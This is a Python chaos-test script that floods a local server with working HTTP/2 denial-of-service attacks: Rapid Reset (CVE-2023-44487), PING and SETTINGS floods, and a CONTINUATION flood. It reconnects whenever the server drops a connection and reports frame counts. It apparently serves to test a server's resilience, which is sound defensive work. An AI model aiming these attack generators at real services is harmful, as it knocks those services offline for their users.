"""Floods a server with frames. A process of its own: `python -m tests.chaos.flood KIND PORT SECONDS`.

Prints, as JSON, how many frames it has sent and how often the server has ended a connection.
"""

import json
import os
import select
import socket
import sys
import time
from collections.abc import Callable, Iterator
from contextlib import suppress
from itertools import count
from typing import Final

from tests.chaos.frames import (
    CANCEL,
    CONTINUATION,
    END_HEADERS,
    HEADERS,
    HELLO,
    LARGEST_FRAME,
    LARGEST_STREAM,
    PING,
    RST_STREAM,
    SETTINGS,
    call_headers,
    frame,
    header_block,
)

CONNECTIONS: Final = 4
"""Every second one reads what the server answers, so that nothing holds it up. The others let it pile up."""
FRAMES: Final = 200
"""Frames in one piece."""
MARK: Final = "/readstate.v1.SystemEventService/MarkRead"

Pieces = Iterator[tuple[int, bytes]]
"""How many frames, and their bytes."""


def rapid_reset() -> Pieces:
    """Calls that are taken back at once (CVE-2023-44487)."""
    block, cancel = call_headers(MARK), CANCEL.to_bytes(4)
    for first in count(1, FRAMES):
        if first + FRAMES > LARGEST_STREAM:
            return
        pairs = (
            frame(HEADERS, END_HEADERS, stream, block) + frame(RST_STREAM, 0, stream, cancel)
            for stream in range(first, first + FRAMES, 2)
        )
        yield FRAMES, b"".join(pairs)


def ping() -> Pieces:
    """Each wants an answer (CVE-2019-9512)."""
    piece = frame(PING, 0, 0, bytes(8)) * FRAMES
    while True:
        yield FRAMES, piece


def settings() -> Pieces:
    """Each wants an answer (CVE-2019-9515)."""
    piece = frame(SETTINGS, 0, 0) * FRAMES
    while True:
        yield FRAMES, piece


def continuation() -> Pieces:
    """Headers that never end (VU#421644)."""
    yield 1, frame(HEADERS, 0, 1, call_headers(MARK))
    field = header_block([("x", "y" * 1000)])
    part = field * (LARGEST_FRAME // len(field))
    piece = frame(CONTINUATION, 0, 1, part) * 10
    while True:
        yield 10, piece


KINDS: Final[dict[str, Callable[[], Pieces]]] = {
    kind.__name__: kind for kind in (rapid_reset, ping, settings, continuation)
}


class Connection:
    """One that floods, and is opened again when the server ends it."""

    def __init__(self, kind: str, port: int, *, reads: bool) -> None:
        self._kind, self._port, self._reads = kind, port, reads
        self.frames = 0
        self.ended = 0
        self._open()

    def _open(self) -> None:
        self.socket = socket.create_connection(("127.0.0.1", self._port))
        self.socket.setblocking(False)
        self._pieces = KINDS[self._kind]()
        self._pending = memoryview(HELLO)

    def send(self) -> None:
        """Send what can be sent now."""
        try:
            self._discard()
            self._pending = self._pending[self.socket.send(self._pending) :]
            if not self._pending:
                frames, piece = next(self._pieces)
                self._pending = memoryview(piece)
                self.frames += frames
        except BlockingIOError:
            return
        except (OSError, StopIteration):
            self.socket.close()
            self.ended += 1
            self._open()

    def _discard(self) -> None:
        if self._reads:
            with suppress(BlockingIOError):
                if not self.socket.recv(1 << 20):
                    raise ConnectionResetError


def flood(kind: str, port: int, seconds: float) -> dict[str, int]:
    """Flood for so long."""
    connections = [Connection(kind, port, reads=bool(n % 2)) for n in range(CONNECTIONS)]
    ends_at = time.monotonic() + seconds
    while time.monotonic() < ends_at:
        poll, by_file = select.poll(), {connection.socket.fileno(): connection for connection in connections}
        for file in by_file:
            poll.register(file, select.POLLOUT)
        for file, _ in poll.poll(100):
            by_file[file].send()
    return {"frames": sum(c.frames for c in connections), "ended": sum(c.ended for c in connections)}


if __name__ == "__main__":
    os.nice(5)  # what is measured is the server, and not who of them gets the processor
    print(json.dumps(flood(sys.argv[1], int(sys.argv[2]), float(sys.argv[3]))))
